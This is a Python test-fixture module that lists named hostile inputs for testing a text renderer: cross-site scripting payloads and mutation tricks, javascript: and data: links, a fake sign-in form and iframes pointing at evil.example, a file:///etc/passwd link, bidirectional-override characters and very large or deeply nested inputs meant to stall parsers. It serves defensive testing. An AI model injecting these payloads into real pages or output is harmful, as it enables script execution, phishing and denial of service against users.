"""Text that tries to run script, to mislead, to break the page or to take for ever: for every test that shows text."""

from typing import NamedTuple


class Hostile(NamedTuple):
    """`text` is what a model, a tool, a file name or a person might give us; `name` says what it tries."""

    name: str
    text: str


_MARKUP = [
    ("script", "<script>alert(1)</script>"),
    ("script in a list", "- a\n- <script>alert(1)</script>"),
    ("script in upper case, unclosed", "<SCRIPT SRC=//evil.example/x.js>"),
    ("onerror", '<img src=x onerror="alert(1)">'),
    ("onload of svg", "<svg/onload=alert(1)>"),
    ("style attribute", '<p style="position:fixed;inset:0;background:red">over everything</p>'),
    ("style element", "<style>body{display:none}</style>"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base", '<base href="https://evil.example/">'),
    ("form", '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>'),
    ("unclosed tags", "<div><b><i><table><tr><td>"),
    ("surplus closing tags", "</div></article></main></body></html>"),
    ("closes pre and code", "```\n</code></pre><script>alert(1)</script>\n```"),
    ("closes pre in an open fence", "```html\n</code></pre><img src=x onerror=alert(1)>"),
    ("comment that never ends", "<!-- never closed\n\ntext"),
    ("cdata", "<![CDATA[ <script>alert(1)</script> ]]>"),
    ("noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    (
        "math mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    ),
    ("template", "<template><script>alert(1)</script></template>"),
    ("htmx attributes", '<a hx-get="/sign-out" hx-trigger="load">x</a>'),
    ("id of the page", '<p id="main" name="main" class="dialog">x</p>'),
    ("template syntax", "{% include 'secret' %} {{ settings.SECRET_KEY }} {# x #}"),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;"),
]
_LINKS = [
    ("javascript link", "[x](javascript:alert(1))"),
    ("javascript link, mixed case", "[x](JaVaScRiPt:alert(1))"),
    ("javascript link with a tab", "[x](<java\tscript:alert(1)>)"),
    ("javascript link with entities", "[x](&#106;avascript&colon;alert&lpar;1&rpar;) [y](java&Tab;script:alert(1))"),
    ("javascript link, percent-encoded", "[x](javascript%3Aalert(1))"),
    ("javascript link after a control", "[x](<\x01javascript:alert(1)>)"),
    ("javascript link after a space", "[x](< javascript:alert(1)>)"),
    ("javascript autolink", "<javascript:alert(1)>"),
    ("javascript reference", "[x]\n\n[x]: javascript:alert(1)"),
    ("vbscript link", "[x](vbscript:msgbox(1))"),
    ("data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("file and blob links", "[x](file:///etc/passwd) [y](blob:https://a/b)"),
    ("link without a scheme", "[x](//evil.example/) [y](/sign-out) [z](\\\\evil.example\\share)"),
    ("javascript image", "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)"),
    ("remote image", "![tracking](https://evil.example/pixel.gif)"),
    ("image in a link", "[![x](https://evil.example/x.png)](javascript:alert(1))"),
    (
        "quotes in a link",
        '[x](https://a.example/"onmouseover="alert(1)) [y](https://a.example \'" onclick="alert(1)\')',
    ),
    ("bare address with quotes", 'https://a.example/"onmouseover="alert(1)"<script>'),
    ("language of a fence", '```"><script>alert(1)</script>\nx\n```'),
    ("language with quotes", "``` x\"onclick='alert(1)'\ncode\n```\n\n```\"onclick=alert(1)\nx"),
]
_CHARACTERS = [
    ("bidi override", "Access: \u202egnp.exe\u202c done"),
    ("bidi in code", "```python\nif admin:  # \u202e } \u2066if not admin\u2069 \u2066\n    pass\n```"),
    ("bidi isolates", "\u2066\u2067\u2068 never closed"),
    ("nul", "a\x00b\n\n```\nc\x00d\n```"),
    ("all controls", "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))),
    ("ansi escapes", "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"),
    ("lone surrogates", "a\ud800b \udc00 \udfff\ud800"),
    ("split surrogate pair", "\ud83d\ude00 smiles"),
    ("byte order mark", "\ufeff# heading\n\n```python\n\ufeffx = 1\n```"),
    ("line separators", "a\u2028b\u2029c\x85d\x0be\x0cf"),
    ("many combining marks", "Z" + "\u0301" * 5_000),
    ("invisible text", "\u200b" * 2_000 + "x"),
    ("mixed line ends", "# a\r\n\r\nb\rc\n\r```\r\nd\r\n```\r"),
    ("very long word", "x" * 100_000),
    ("very long line of code", "```js\n" + "a(" * 50_000 + "\n```"),
    ("right to left", "שלום **עולם** `code` مرحبا"),
]
_SLOW = [
    ("10,000 quotes", ">" * 10_000),
    ("10,000 quotes with spaces", "> " * 10_000 + "text"),
    ("10,000 brackets", "[" * 10_000),
    ("10,000 bracket pairs", "[" * 10_000 + "](a)" * 10_000),
    ("10,000 image openings", "![" * 10_000),
    ("10,000 link openings", "[a](" * 10_000),
    ("10,000 stars", "*" * 10_000),
    ("stars around a letter", "*" * 10_000 + "a" + "*" * 10_000),
    ("emphasis that never closes", "*a **b _c " * 3_000),
    ("10,000 underscores", "_a" * 10_000),
    ("10,000 tildes", "~~a" * 5_000),
    ("runs of backticks", "".join("`" * length + "a" for length in range(1, 200))),
    ("10,000 less-than signs", "<" * 10_000),
    ("10,000 ampersands", "&#x" * 5_000),
    ("10,000 backslashes", "\\" * 10_000),
    ("nested lists", "\n".join("  " * depth + "- a" for depth in range(300))),
    ("nested lists on one line", "- " * 5_000 + "a"),
    ("nested quotes of many lines", (">" * 100 + " a\n") * 200),
    ("table of empty cells", "|a" * 60 + "\n" + "|-" * 60 + "\n" + "x\n" * 5_000),
    ("table of many columns", "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "x\n" * 500),
    ("10,000 definitions", "".join(f"[{n}]: /u\n" for n in range(10_000)) + "\n[1] [2]"),
    ("a definition that never ends", "[a\n" * 5_000),
    ("a title that never ends", '[a]: b "\n' * 3_000),
    ("newlines as C", "```c\n" + "\n" * 20_000 + "```"),
    ("brackets as JSON", "```json\n" + "[" * 20_000 + "\n```"),
    ("20,000 spaces", "a" + " " * 20_000 + "b"),
    ("20,000 newlines", "a" + "\n" * 20_000 + "b"),
    ("one megabyte of text", "All work and no play makes Jack a dull boy. " * 23_000),
    ("one megabyte of brackets", "[" * 1_000_000),
    ("one megabyte of tables", "|a|b|\n|-|-|\n" + "|x|y|\n" * 160_000),
    ("one megabyte of code", "```python\n" + "x = (1, 'two', None)\n" * 50_000 + "```"),
]

HOSTILE = [Hostile(name, text) for name, text in [*_MARKUP, *_LINKS, *_CHARACTERS, *_SLOW]]
SHORT_HOSTILE = [each for each in HOSTILE if len(each.text) <= 3_000]
